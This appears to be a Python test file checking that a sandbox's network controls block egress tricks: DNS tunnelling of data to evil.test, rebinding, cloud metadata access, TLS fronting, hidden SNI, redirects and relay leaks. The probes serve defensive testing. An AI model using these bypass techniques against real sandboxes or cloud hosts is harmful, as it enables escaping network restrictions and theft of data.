# SPDX-License-Identifier: Apache-2.0
"""Attacks 79, 80, 81, 82, 83, 85, 86, 87, 88, 91 and 94: reaching what is not allowed, by address, by question, by spelling, by rebinding, by fronting."""

import os
import shutil
import socket
import struct
import threading

import pytest
from conftest import PREFIX
from internet import METADATA, OTHER, PRIVATE, PUBLIC

SPECIAL = [PRIVATE, METADATA, "100.64.0.1", "192.168.7.7", "127.0.0.1", "fd00:ec2::254"]


@pytest.fixture
def online(internet, private):
    shutil.copytree(PREFIX / "share/inner/profiles", private.home / ".config/inner/profiles")
    shutil.copy(internet.directory / "ca.pem", private.work / "ca.pem")
    return private


def python(online, code, *options, **how):
    """Runs Python inside; it prints one line that is evaluated here."""
    (online.work / "attack.py").write_text(code)
    done = online.run("python3 attack.py", *options, **how)
    assert done.returncode == 0, done.stderr
    return eval(done.stdout), done.stderr.decode()


REACH = """
import socket
def reach(host, port, data=b"GET / HTTP/1.0\\r\\n\\r\\n"):
    try:
        with socket.create_connection((host, port), 10) as s:
            s.settimeout(10)
            s.sendall(data)
            return s.recv(100)
    except OSError as error:
        return type(error).__name__
"""


def test_079_host_services(online, internet):
    ports = [80, 9999]
    internet.serve("127.0.0.1", 9999, lambda c, s: c.sendall(b"secret"))
    before = internet.contacted("127.0.0.1")
    for mode in (["--network-mode", "open"], ["--allow-host", "*.test"], []):
        found, _ = python(online, REACH + f"print([reach(h, p) for h in ('127.0.0.1', '::1', 'localhost', 'loop.test')"
                                          f" for p in {ports}])", *mode)
        assert not any(isinstance(answer, bytes) and answer for answer in found), found
    assert internet.contacted("127.0.0.1") == before


def test_080_direct_addresses(online, internet):
    before = internet.contacted(PUBLIC, OTHER, PRIVATE)
    found, _ = python(online, REACH + f"print([reach(h, p) for h in ('{PUBLIC}', '{PRIVATE}', '198.18.0.16',"
                                      " '198.18.7.7', '198.18.0.1') for p in (80, 443, 22, 7, 8080)])",
                      "--allow-host", "www.allowed.test")
    assert not any(isinstance(answer, bytes) and answer for answer in found), found
    assert internet.contacted(PUBLIC, OTHER, PRIVATE) == before


def test_080_other_protocols(online):
    found, _ = python(online, f"""
import socket
def send(family, kind, protocol):
    try:
        s = socket.socket(family, kind, protocol)
        s.settimeout(1)
        s.connect(("{PUBLIC}", 443))
        s.send(b"x" * 64)
        return s.recv(10)
    except OSError as error:
        return type(error).__name__
print([send(socket.AF_INET, socket.SOCK_DGRAM, 0), send(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
       send(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), send(socket.AF_INET, socket.SOCK_SEQPACKET, 132)])
""", "--network-mode", "open")
    assert all(isinstance(answer, str) for answer in found), found


def test_081_denied_name_is_never_looked_up(online, internet):
    internet.names.asked.clear()
    online.run("getent hosts c2VjcmV0.evil.test; getent hosts evil.test; getent ahostsv6 evil.test;"
               " getent hosts x.www.allowed.test", "--allow-host", "www.allowed.test")
    assert internet.names.asked == []


ASK = """
import socket, struct
def ask(name, kind, extra=b"", head=b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0", to="198.18.0.1"):
    labels = b"".join(bytes([len(l)]) + l for l in name) + b"\\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((to, 53))
    s.send(head + labels + struct.pack(">HH", kind, 1) + extra)
    try:
        answer = s.recv(4096)
    except OSError as error:
        return type(error).__name__
    return answer[3] & 15, answer[6:8], answer[-4:]
"""


def test_081_only_addresses_are_answered(online, internet):
    internet.names.asked.clear()
    found, _ = python(online, ASK + "n = [b'www', b'allowed', b'test']\n"
                      "print([ask(n, k)[0] for k in (2, 5, 6, 12, 15, 16, 33, 35, 64, 65, 250, 252, 255, 257, 65280)])",
                      "--allow-host", "www.allowed.test")
    assert set(found) == {5}
    assert internet.names.asked == []


def test_081_data_in_names_is_limited(online, internet):
    internet.names.asked.clear()
    found, denied = python(online, ASK + "import os\n"
                           "print([ask([os.urandom(15).hex().encode(), b'wild', b'test'], 1)[0] for _ in range(300)])",
                           "--allow-host", "*.wild.test")
    assert len({name for name in internet.names.asked if name.endswith(".wild.test")}) <= 48
    assert found.count(5) >= 250
    assert "too many different names below a wildcard" in denied


def test_082_empty_list_is_nothing(online, internet):
    before = internet.contacted(PUBLIC, OTHER)
    found, _ = python(online, REACH + f"print([reach(h, 80) for h in ('{PUBLIC}', 'www.allowed.test')])",
                      "--network-mode", "allowlist")
    assert all(isinstance(answer, str) for answer in found)
    assert internet.contacted(PUBLIC, OTHER) == before


def test_083_spellings_on_the_wire(online, internet):
    """Labels with a dot, a NUL, a line end, bytes of other alphabets: tests/unit/test-network.c has the table."""
    internet.names.asked.clear()
    found, _ = python(online, ASK + """
hostile = [[b'www.allowed.test'], [b'www.allowed', b'test'], [b'www', b'allowed\\0', b'test'], [b'www\\r\\n', b'allowed', b'test'],
           [b'www', b'allowed', b'test%00'], [b'w_w', b'allowed', b'test'], [b'www', b'allowed', b't\\xc3\\xa9st'], [b'a' * 63] * 4,
           [b'127', b'0', b'0', b'1'], [b'0x7f000001'], [b'2130706433'], [b'']]
print([ask(n, 1)[0] for n in hostile])
""", "--allow-host", "*.allowed.test", "--allow-host", "www.allowed.test")
    assert set(found) <= {1, 5}, found
    assert internet.names.asked == []


def test_083_broken_questions(online):
    """Whatever comes: the next honest question is answered."""
    found, _ = python(online, ASK + """
import os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.18.0.1", 53))
for i in range(2000):
    s.send(b"\\x12\\x34\\x01\\0" + os.urandom(i % 200))
loop = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\xc0\\x0c\\0\\1\\0\\1"
s.send(loop)
t = socket.create_connection(("198.18.0.1", 53))
t.sendall(b"\\xff\\xff" + os.urandom(3000))
# What comes while the queue of datagrams is full is lost, as everywhere; so it is read first.
import time
time.sleep(2)
print(ask([b'www', b'allowed', b'test'], 1))
""", "--allow-host", "www.allowed.test")
    assert found[0] == 0 and found[1] == b"\0\1"


def test_085_rebinding_name(online, internet):
    """Public for the question, private for the connection that follows (the answer is old by then)."""
    internet.names.names["rebind.test"] = [PUBLIC]
    threading.Timer(6, lambda: internet.names.names.update({"rebind.test": [PRIVATE]})).start()
    before = internet.contacted(PRIVATE)
    found, said = python(online, REACH + "import time\nfirst = reach('rebind.test', 80)\n"
                         "address = socket.gethostbyname('rebind.test')\ntime.sleep(17)\n"
                         "print([bool(first), reach(address, 80)])", "--allow-host", "rebind.test")
    assert found[0] is True
    assert isinstance(found[1], str) or found[1] == b"", found
    assert internet.contacted(PRIVATE) == before
    assert "rebind.test:80" in said


@pytest.mark.parametrize("name", ["mixed.test", "private.test", "mapped.test", "cgnat.test", "zero.test"])
def test_085_mixed_answer_is_refused(online, internet, name):
    before = internet.contacted(*SPECIAL)
    found, said = python(online, REACH + f"print([reach('{name}', 80)])", "--allow-host", name)
    assert found == ["gaierror"]
    assert internet.contacted(*SPECIAL) == before
    assert f"{name}: its address is one of this machine" in said


@pytest.mark.parametrize("mode", [["--network-mode", "open"], ["--allow-host", "*.test", "--allow-host", "0.0.0.0/0"]])
def test_086_metadata(online, internet, mode):
    before = internet.contacted(METADATA, "fd00:ec2::254")
    found, _ = python(online, REACH + "print([reach(h, 80) for h in ('169.254.169.254', 'fd00:ec2::254', 'metadata.test',"
                                      " 'ula.test', '::ffff:169.254.169.254')])", *mode)
    assert not any(isinstance(answer, bytes) and answer for answer in found), found
    assert internet.contacted(METADATA, "fd00:ec2::254") == before


TLS = REACH + """
import ssl
def tls(host, name, port=443):
    context = ssl.create_default_context(cafile="ca.pem")
    context.check_hostname = False
    try:
        with socket.create_connection((host, port), 10) as s:
            s.settimeout(10)
            with context.wrap_socket(s, server_hostname=name) as t:
                t.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                return t.recv(100)
    except OSError as error:
        return type(error).__name__
"""


def test_087_fronting(online, internet):
    found, said = python(online, TLS + "print([tls('www.allowed.test', 'www.allowed.test'),"
                                       " tls('www.allowed.test', 'evil.test'), tls('www.allowed.test', 'WWW.allowed.test')])",
                         "--allow-host", "www.allowed.test")
    assert found[0].startswith(b"HTTP/1.1 200")
    assert isinstance(found[1], str)
    assert found[2].startswith(b"HTTP/1.1 200")
    assert "www.allowed.test:443: it names another server than the one it connects to" in said


def test_088_no_server_name(online, internet):
    before = internet.contacted(PUBLIC)
    found, said = python(online, TLS + "print([tls('www.allowed.test', None), reach('www.allowed.test', 443)])",
                         "--allow-host", "www.allowed.test")
    assert not any(isinstance(answer, bytes) and answer for answer in found), found
    assert internet.contacted(PUBLIC) == before
    assert "www.allowed.test:443" in said


def hello(name, ech):
    host = name.encode()
    extensions = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
    if ech:
        extensions += struct.pack(">HHB", 0xfe0d, 1, 0)
    body = b"\3\3" + b"r" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    handshake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake


def test_088_encrypted_hello(online, internet):
    before = internet.contacted(PUBLIC)
    plain, hidden = hello("www.allowed.test", False), hello("www.allowed.test", True)
    found, said = python(online, REACH + f"print([reach('www.allowed.test', 443, {hidden!r}), bool(reach('www.allowed.test', 443, {plain!r}))])",
                         "--allow-host", "www.allowed.test")
    assert isinstance(found[0], str) or found[0] == b""
    assert found[1] is True
    assert internet.contacted(PUBLIC) == before + 1
    assert "it hides the name of the server (ECH)" in said


def test_088_profile_may_allow_it(online):
    (online.home / ".config/inner/profiles/opaque.toml").write_text(
        'extends = "shell-oneshot"\n[sandbox]\nnetwork_mode = "allowlist"\nnetwork_allow = ["www.allowed.test"]\nsni = "allow"\n')
    (online.work / "attack.py").write_text(TLS + "print([tls('www.allowed.test', None)])")
    done = online("run", "-p", "opaque", "--arg", "python3 attack.py")
    assert eval(done.stdout)[0].startswith(b"HTTP/1.1 200"), done.stderr


def test_091_redirect_is_a_second_decision(online, internet):
    internet.serve(PUBLIC, 8091, lambda c, s: (c.recv(1000), c.sendall(
        b"HTTP/1.1 302 Found\r\nLocation: http://evil.test/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")))
    before = internet.contacted(OTHER)
    done = online.run("curl -sS -L -m 15 http://www.allowed.test:8091/", "--allow-host", "www.allowed.test:8091")
    assert done.returncode == 6
    assert internet.contacted(OTHER) == before
    assert b"evil.test" in done.stderr


def test_094_broken_relay_leaks_nothing(online, internet):
    """A receiver that goes away with much on its way; what comes after gets only its own bytes."""
    internet.serve(PUBLIC, 8094, lambda c, s: c.sendall(b"SECRET" * 500000))
    found, _ = python(online, f"""
import socket, struct
for _ in range(50):
    s = socket.create_connection(("www.allowed.test", 8094), 10)
    s.recv(10)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()
clean = True
for i in range(50):
    with socket.create_connection(("www.allowed.test", 7), 10) as s:
        s.settimeout(10)
        s.sendall(b"ping%d" % i)
        clean &= s.recv(1000) == b"ping%d" % i
print([clean])
""", "--allow-host", "www.allowed.test:8094", "--allow-host", "www.allowed.test:7")
    assert found == [True]
